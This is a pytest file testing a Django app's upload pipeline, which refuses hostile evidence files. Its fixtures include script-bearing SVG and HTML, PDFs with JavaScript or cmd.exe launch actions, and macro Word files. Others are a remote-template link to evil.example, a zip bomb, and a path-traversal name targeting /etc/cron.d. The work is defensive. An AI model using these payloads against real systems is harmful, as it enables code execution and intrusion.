"""QUALITY.md U1–U9 through the real page: every hostile file sent as an activity's evidence is
refused with a message that says what to send instead, nothing is stored, nothing can be served.
The fixtures are built here from bytes, so each case shows exactly what makes it hostile."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from mitra.activities.models import Evidence
from mitra.files.models import StoredFile
from tests.conftest import PDF_SCAN, png_bytes

pytestmark = pytest.mark.django_db

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'
HTML = b"<!doctype html><html><body><script>fetch('/api/v1/schools/')</script></body></html>"


def jpeg(size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "red").save(out, format="JPEG")
    return out.getvalue()


def flood_png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00")) + chunk(b"IEND", b"")


def word_file(*, extra: dict[str, bytes] | None = None, content_types: bytes | None = None) -> bytes:
    """A real .docx from python-docx, with entries added or its content types replaced."""
    document = docx.Document()
    document.add_paragraph("Laporan kegiatan penyuluhan gizi")
    source = io.BytesIO()
    document.save(source)
    out = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for entry in original.infolist():
            data = original.read(entry)
            if entry.filename == "[Content_Types].xml" and content_types is not None:
                data = content_types
            copy.writestr(entry, data)
        for name, data in (extra or {}).items():
            copy.writestr(name, data)
    return out.getvalue()


def many_entries(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for n in range(count):
            archive.writestr(f"word/media/{n}.xml", "")
    return out.getvalue()


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # the header of a .doc / .xls
REMOTE_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
MACRO_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    b"</Types>"
)

# (name sent, bytes, words the refusal must contain)
HOSTILE = [
    ("drawing.svg", SVG, "SVG"),
    ("photo.jpg", SVG, "SVG"),
    ("report.pdf", HTML, "Web pages"),
    ("page.html", HTML, "Web pages"),
    ("setup.exe", b"MZ\x90\x00\x03" + b"\x00" * 200, "not accepted"),
    ("photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "not accepted"),
    ("flood.png", flood_png(20000, 20000), "too many pixels"),
    ("flood.png", flood_png(8000, 8000), "too many pixels"),
    ("cut.jpg", jpeg((400, 300))[:700], "damaged"),
    ("photo.png", jpeg(), "name ends in"),
    ("photo.png.exe", png_bytes(), "name ends in"),
    ("scan.pdf", PDF_SCAN.replace(b"<<>>", b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", 1), "scripts"),
    ("scan.pdf", PDF_SCAN.replace(b"<<>>", b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>", 1), "scripts"),
    ("scan.pdf", PDF_SCAN.replace(b"<<>>", b"<</Names<</EmbeddedFiles 2 0 R>>>>", 1), "embedded"),
    ("scan.jpg", PDF_SCAN, "does not end in"),
    ("report.docm", word_file(), "macros"),
    ("report.docx", word_file(extra={"word/vbaProject.bin": b"\x00" * 64}), "macros"),
    ("report.docx", word_file(content_types=MACRO_TYPES), "macros"),
    ("report.docx", word_file(extra={"word/activeX/activeX1.xml": b"<ax/>"}), "macros"),
    ("report.docx", word_file(extra={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), "template"),
    ("report.docx", many_entries(2100), "unpacks"),
    ("archive.docx", many_entries(0)[:-30], "Word"),
    ("report.doc", OLE2, "Office"),
    ("report.txt", word_file(), "does not end in"),
    ("empty.jpg", b"", "empty"),
]


def _evidence_page(world):
    return reverse("activities:evidence_add", args=[world.a.pk, world.done_activity.pk])


def _files_on_disk(settings) -> set[Path]:
    root = Path(settings.MEDIA_ROOT)
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


@pytest.fixture
def member(client, run_world):
    person = run_world.users["team_member"]
    person.language = "en"  # the refusals are read in English here
    person.save(update_fields=["language"])
    client.force_login(person)
    return client


@pytest.mark.parametrize("name,data,words", HOSTILE, ids=[f"{n}-{i}" for i, (n, _d, _w) in enumerate(HOSTILE)])
def test_hostile_evidence_is_refused_with_a_message_and_nothing_stored(member, run_world, settings, name, data, words):
    before_rows, before_files = StoredFile.all_schools.count(), _files_on_disk(settings)
    response = member.post(
        _evidence_page(run_world), {"files": SimpleUploadedFile(name, data), "kind": "report"}, follow=True
    )
    shown = " ".join(str(m) for m in response.context["messages"])
    assert words.lower() in shown.lower(), shown
    assert StoredFile.all_schools.count() == before_rows
    assert _files_on_disk(settings) == before_files


def test_zip_bomb_is_found_by_inflating_not_by_trusting_declared_sizes(member, run_world, settings):
    settings.MAX_UPLOAD_BYTES = 10 * 1024 * 1024
    from mitra.files import pipeline

    bomb = word_file(extra={"word/media/zeros.bin": b"\x00" * (pipeline.DOCX_MAX_UNPACKED + 1024)})
    assert len(bomb) < 1024 * 1024  # a few hundred KB that inflate past the limit
    before = StoredFile.all_schools.count()
    response = member.post(_evidence_page(run_world), {"files": SimpleUploadedFile("bomb.docx", bomb)}, follow=True)
    assert "unpacks" in " ".join(str(m) for m in response.context["messages"])
    assert StoredFile.all_schools.count() == before


def test_a_polyglot_image_is_accepted_only_as_its_re_encoded_picture(member, run_world, settings):
    polyglot = png_bytes() + HTML
    member.post(_evidence_page(run_world), {"files": SimpleUploadedFile("p.png", polyglot), "kind": "photo"})
    stored = StoredFile.all_schools.latest("pk")
    kept = (Path(settings.MEDIA_ROOT) / stored.path).read_bytes()
    assert kept.startswith(b"\x89PNG") and b"<script>" not in kept


def test_one_byte_over_the_cap_is_refused_and_the_cap_itself_accepted(member, run_world, settings):
    data = jpeg()
    settings.MAX_UPLOAD_BYTES = len(data) - 1
    before = StoredFile.all_schools.count()
    response = member.post(_evidence_page(run_world), {"files": SimpleUploadedFile("a.jpg", data)}, follow=True)
    assert "larger than" in " ".join(str(m) for m in response.context["messages"])
    assert StoredFile.all_schools.count() == before
    settings.MAX_UPLOAD_BYTES = len(data)
    member.post(_evidence_page(run_world), {"files": SimpleUploadedFile("a.jpg", data)})
    assert StoredFile.all_schools.count() == before + 1


def test_the_school_quota_stops_uploads_past_it(member, run_world, settings):
    from mitra.files.pipeline import used_bytes

    settings.SCHOOL_STORAGE_BYTES = used_bytes(run_world.a) + 100
    before = StoredFile.all_schools.count()
    response = member.post(_evidence_page(run_world), {"files": SimpleUploadedFile("a.jpg", jpeg())}, follow=True)
    assert "storage is full" in " ".join(str(m) for m in response.context["messages"])
    assert StoredFile.all_schools.count() == before


@pytest.mark.parametrize("bad_first", [True, False])
def test_every_file_of_a_multi_file_upload_is_checked_before_any_is_stored(member, run_world, settings, bad_first):
    good, bad = SimpleUploadedFile("ok.jpg", jpeg()), SimpleUploadedFile("x.svg", SVG)
    before_rows, before_files = StoredFile.all_schools.count(), _files_on_disk(settings)
    response = member.post(_evidence_page(run_world), {"files": [bad, good] if bad_first else [good, bad]}, follow=True)
    assert "x.svg" in " ".join(str(m) for m in response.context["messages"])
    assert StoredFile.all_schools.count() == before_rows and _files_on_disk(settings) == before_files


def test_too_many_files_in_one_request_is_refused(member, run_world, settings):
    files = [SimpleUploadedFile(f"{n}.jpg", jpeg()) for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FILES + 1)]
    before = StoredFile.all_schools.count()
    response = member.post(_evidence_page(run_world), {"files": files})
    assert response.status_code == 400
    assert StoredFile.all_schools.count() == before


def test_stored_files_cannot_be_reached_by_their_path(member, run_world):
    stored = run_world.evidence.file
    for guess in (f"/media/{stored.path}", f"/files/{stored.path}", f"/static/{stored.path}", f"/{stored.path}"):
        assert member.get(guess).status_code == 404, guess


def test_a_path_in_the_file_name_never_reaches_the_disk_or_the_download(member, run_world, settings):
    member.post(
        _evidence_page(run_world), {"files": SimpleUploadedFile("../../../etc/cron.d/x.jpg", jpeg()), "kind": "photo"}
    )
    evidence = Evidence.all_schools.latest("pk")
    assert ".." not in evidence.file.path and "cron" not in evidence.file.path
    assert (
        (Path(settings.MEDIA_ROOT) / evidence.file.path).resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())
    )
    response = member.get(
        reverse("activities:evidence_file", args=[run_world.a.pk, run_world.done_activity.pk, evidence.pk])
    )
    assert "x.jpg" in response["Content-Disposition"] and ".." not in response["Content-Disposition"]


def test_a_word_document_is_accepted_kept_as_sent_and_only_downloaded(member, run_world, settings):
    data = word_file()
    member.post(_evidence_page(run_world), {"files": SimpleUploadedFile("Laporan.docx", data), "kind": "report"})
    evidence = Evidence.all_schools.latest("pk")
    assert evidence.kind == "report" and (Path(settings.MEDIA_ROOT) / evidence.file.path).read_bytes() == data
    response = member.get(
        reverse("activities:evidence_file", args=[run_world.a.pk, run_world.done_activity.pk, evidence.pk])
    )
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff" and "sandbox" in response["Content-Security-Policy"]


def test_a_photo_is_turned_upright_scaled_and_thumbnailed(member, run_world, settings):
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x0112] = 6  # the camera was turned: rotate 90° to show it upright
    Image.new("RGB", (4000, 3000), "blue").save(out, format="JPEG", exif=exif)
    member.post(_evidence_page(run_world), {"files": SimpleUploadedFile("cam.jpg", out.getvalue()), "kind": "photo"})
    stored = Evidence.all_schools.latest("pk").file
    with Image.open(Path(settings.MEDIA_ROOT) / stored.path) as kept:
        assert kept.size == (1920, 2560) and not kept.getexif().get(0x0112)
    with Image.open(Path(settings.MEDIA_ROOT) / stored.thumbnail_path) as thumb:
        assert max(thumb.size) == 480
